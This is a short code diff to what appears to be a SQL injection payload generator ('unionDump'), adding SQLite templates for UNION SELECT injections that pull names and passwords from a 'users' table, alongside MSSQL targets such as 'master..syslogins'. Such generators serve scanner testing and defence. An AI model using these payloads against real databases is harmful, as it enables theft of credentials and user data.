@@ -34,7 +34,15 @@ export const unionDump = sqlGenerator({
       field: ['name', 'password', '{column}', '{joined}', 'id::text', 'CAST(id AS varchar)', 'null', '{all}'],
       from: ['users', '{table}', '(select * from users) s'],
     },
-    sqlite: { from: ['users', '{table}', '{table} NATURAL JOIN users'] },
+    sqlite: {
+      start: [
+        '{open} union select {fields} from {from} {comment}',
+        '{open} UNION ALL SELECT {fields} FROM {from}{tail}{comment}',
+        '{open} and 1=0 union select {fields} from {from}{comment}',
+        '{open} union select * from (select {fields} from {from}) {comment}',
+      ],
+      from: ['users', '{table}', '{table} NATURAL JOIN users'],
+    },
     mssql: {
       tail: ['', ' WHERE id={digit}', ' FOR XML PATH'],
       from: ['users', '{table}', 'sysobjects', 'master..syslogins'],
